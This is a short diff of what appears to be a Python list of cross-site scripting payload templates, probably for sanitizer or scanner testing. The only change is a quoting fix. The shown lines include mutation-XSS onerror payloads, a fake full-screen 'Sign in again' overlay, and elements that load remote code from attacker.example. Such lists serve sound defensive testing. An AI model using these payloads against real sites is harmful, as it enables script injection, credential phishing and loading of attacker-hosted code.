@@ -46,7 +46,7 @@ SCRIPTS = (
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>",
     "<select><iframe></select><img src=x onerror={x}>",
     "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>",
-    "<div style=\"width:expression({x});behavior:url(//attacker.example/x.htc)\">",
+    '<div style="width:expression({x});behavior:url(//attacker.example/x.htc)">',
     "<textarea></textarea><img src=x onerror={x}>",
     "<marquee onstart={x} width=9999>",
     "<portal src=https://attacker.example/></portal><embed src=//attacker.example/x.swf>",
